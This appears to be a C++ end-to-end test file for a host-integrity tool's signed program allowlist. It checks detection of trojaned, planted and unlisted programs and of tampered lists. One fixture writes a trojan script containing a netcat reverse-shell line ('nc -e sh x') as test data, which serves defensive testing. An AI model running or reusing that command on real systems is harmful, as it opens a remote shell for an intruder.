// vigil allowlist (issue 15): build a signed list from an image's package database (a file
// whose content is not what its package shipped is left out), check the image (an unlisted
// program in a hidden directory, a listed one edited in place, an edited list), check the live
// processes, and enforce with fanotify inside a mount namespace the test makes: --deny makes
// a copied /tmp/ls2 fail with EPERM while /usr/bin/ls runs; --audit lets both run and reports
// the copy. The host's own mounts are never marked.
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <thread>

#include <gtest/gtest.h>

#include "e2e/fixture_root.hpp"
#include "e2e/vigil_run.hpp"
#include "support/temp_dir.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

constexpr std::string_view kTool = "#!/bin/sh\necho tool\n";

void make_exec(const std::string& path) { ::chmod(path.c_str(), 0755); }

// A Debian-like image: a package "tools" owning a program, a library (0644) and a program
// behind the merged-/usr /bin link; `trojan` is owned but not what the package shipped.
void package_image(const TempDir& d, bool with_trojan) {
  make_exec(d.write("usr/bin/tool", kTool));
  make_exec(d.write("usr/bin/tool2", "#!/bin/sh\necho two\n"));
  d.write("usr/lib/libx.so.1", "\x7f" "ELF library");
  d.write("usr/share/doc/tools/README", "text, not a program\n");
  fs::create_directory_symlink("usr/bin", d / "bin");
  std::string list = "/usr/bin/tool\n/bin/tool2\n/usr/lib/libx.so.1\n/usr/share/doc/tools/README\n";
  std::string sums = md5_of(d / "usr/bin/tool") + "  usr/bin/tool\n" + md5_of(d / "usr/bin/tool2") + "  bin/tool2\n" +
                     md5_of(d / "usr/lib/libx.so.1") + "  usr/lib/libx.so.1\n" +
                     md5_of(d / "usr/share/doc/tools/README") + "  usr/share/doc/tools/README\n";
  if (with_trojan) {
    make_exec(d.write("usr/bin/trojan", "#!/bin/sh\necho shipped\n"));
    sums += md5_of(d / "usr/bin/trojan") + "  usr/bin/trojan\n";
    make_exec(d.write("usr/bin/trojan", "#!/bin/sh\nnc -e sh x\n"));
    list += "/usr/bin/trojan\n";
  }
  d.write("var/lib/dpkg/info/tools.list", list);
  d.write("var/lib/dpkg/info/tools.md5sums", sums);
  d.write("var/lib/dpkg/status", "Package: tools\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n");
  d.write("etc/hostname", "image1\n");
}

RunResult build(const TempDir& image, const TempDir& out, std::vector<std::string> extra = {}) {
  std::vector<std::string> args = {"allowlist", "build", "--root", image.path(), "--list", out / "list", "--key",
                                   out / "key"};
  args.insert(args.end(), extra.begin(), extra.end());
  return run_vigil(args);
}

// root "" checks the live host.
std::vector<nlohmann::json> check(const std::string& root, const TempDir& out, int* code = nullptr,
                                  std::vector<std::string> extra = {}) {
  std::vector<std::string> args = {"allowlist", "check", "--list",   out / "list", "--key", out / "key",
                                   "--format",  "jsonl", "--no-suppress"};
  if (!root.empty()) {
    args.push_back("--root");
    args.push_back(root);
  }
  args.insert(args.end(), extra.begin(), extra.end());
  auto r = run_vigil(args);
  if (code) *code = r.exit_code;
  EXPECT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
  return parse_jsonl(r.out);
}

std::string level(const nlohmann::json& f) { return f["vigil"]["severity"].get<std::string>(); }

const nlohmann::json* about(const std::vector<nlohmann::json>& all, const std::string& rule, const std::string& path) {
  for (const auto& f : all)
    if (f["rule"]["id"] == rule && f.contains("file") && f["file"]["path"] == path) return &f;
  return nullptr;
}

}  // namespace

TEST(Allowlist, BuildListsPackagedProgramsAsShippedUnderTheirRealPaths) {
  TempDir image("vigil-allow-img"), out("vigil-allow-out");
  package_image(image, true);
  auto r = build(image, out);
  ASSERT_EQ(r.exit_code, 0) << r.err << r.out;
  EXPECT_NE(r.out.find("1 package files left out"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("/usr/bin/trojan"), std::string::npos) << r.out;
  auto text = slurp(out / "list");
  EXPECT_NE(text.find(" tools /usr/bin/tool\n"), std::string::npos) << text;
  EXPECT_NE(text.find(" tools /usr/bin/tool2\n"), std::string::npos) << text;  // /bin/tool2 resolved
  EXPECT_NE(text.find(" tools /usr/lib/libx.so.1\n"), std::string::npos) << text;
  EXPECT_EQ(text.find("README"), std::string::npos) << text;
  EXPECT_EQ(text.find("/usr/bin/trojan"), std::string::npos) << text;
  EXPECT_NE(text.find("host image1\n"), std::string::npos);
  // The list is never written into the image.
  auto inside = run_vigil({"allowlist", "build", "--root", image.path(), "--list", image / "etc/vigil/allowlist",
                           "--key", out / "key"});
  EXPECT_EQ(inside.exit_code, 2) << inside.out;
  EXPECT_FALSE(fs::exists(image / "etc/vigil/allowlist"));
}

TEST(Allowlist, CheckOfACleanImageIsQuiet) {
  TempDir image("vigil-allow-img"), out("vigil-allow-out");
  package_image(image, false);
  ASSERT_EQ(build(image, out).exit_code, 0);
  int code = -1;
  auto all = check(image.path(), out, &code);
  EXPECT_TRUE(all.empty()) << all.front().dump();
  EXPECT_EQ(code, 0);
}

TEST(Allowlist, CheckFindsPlantedEditedAndUnlistedPrograms) {
  TempDir image("vigil-allow-img"), out("vigil-allow-out");
  package_image(image, true);
  ASSERT_EQ(build(image, out).exit_code, 0);
  make_exec(image.write("tmp/.x/kworker", "\x7f" "ELF dropped tool"));
  // Same size, other content: a program trojaned in place after the list was made.
  make_exec(image.write("usr/bin/tool", "#!/bin/sh\necho evil\n"));
  ASSERT_EQ(slurp(image / "usr/bin/tool").size(), kTool.size());
  int code = -1;
  auto all = check(image.path(), out, &code);
  auto* dropped = about(all, "allowlist.file-unlisted", "/tmp/.x/kworker");
  ASSERT_NE(dropped, nullptr);
  EXPECT_EQ(level(*dropped), "medium");
  auto* trojan = about(all, "allowlist.file-unlisted", "/usr/bin/trojan");
  ASSERT_NE(trojan, nullptr);
  EXPECT_EQ(level(*trojan), "low");
  auto* edited = about(all, "allowlist.file-changed", "/usr/bin/tool");
  ASSERT_NE(edited, nullptr);
  EXPECT_EQ(level(*edited), "high");  // no package ships this content
  EXPECT_EQ(about(all, "allowlist.file-changed", "/usr/bin/tool2"), nullptr);
  EXPECT_EQ(code, 1);
}

TEST(Allowlist, AnEditedListIsCriticalAndNothingIsCompared) {
  TempDir image("vigil-allow-img"), out("vigil-allow-out");
  package_image(image, false);
  ASSERT_EQ(build(image, out).exit_code, 0);
  make_exec(image.write("tmp/evil", "\x7f" "ELF"));
  auto text = slurp(out / "list");
  auto at = text.find("signature ");
  text.insert(at, std::string(64, 'a') + " 4 added /tmp/evil\n");
  std::ofstream(out / "list", std::ios::binary | std::ios::trunc) << text;
  int code = -1;
  auto all = check(image.path(), out, &code);
  ASSERT_EQ(all.size(), 1u);
  EXPECT_EQ(all[0]["rule"]["id"], "allowlist.list-invalid");
  EXPECT_EQ(level(all[0]), "critical");
  EXPECT_EQ(code, 1);
}

TEST(Allowlist, LiveCheckReportsARunningUnlistedCopy) {
  TempDir d("vigil-allow-live"), out("vigil-allow-out");
  auto hidden = d / "tmp/.x/sleepy";
  fs::create_directories(fs::path(hidden).parent_path());
  fs::copy_file("/usr/bin/sleep", hidden);
  make_exec(hidden);
  auto r = run_vigil({"allowlist", "build", "--no-packages", "--add", "/usr/bin/sleep", "--list", out / "list", "--key",
                      out / "key"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  Planted copy(hidden, {"sleepy", "30"});
  Planted real("/usr/bin/sleep", {"sleep", "30"});
  ASSERT_GT(copy.pid(), 0);
  ASSERT_GT(real.pid(), 0);
  std::this_thread::sleep_for(std::chrono::milliseconds(200));
  auto all = check("", out, nullptr, {d.path()});
  auto mine = findings_of(all, "allowlist.process-unlisted", copy.pid());
  ASSERT_EQ(mine.size(), 1u);
  EXPECT_EQ(level(mine[0]), "high");  // a hidden directory under /tmp
  EXPECT_TRUE(findings_of(all, "allowlist.process-unlisted", real.pid()).empty());
  ASSERT_NE(about(all, "allowlist.file-unlisted", hidden), nullptr);
}
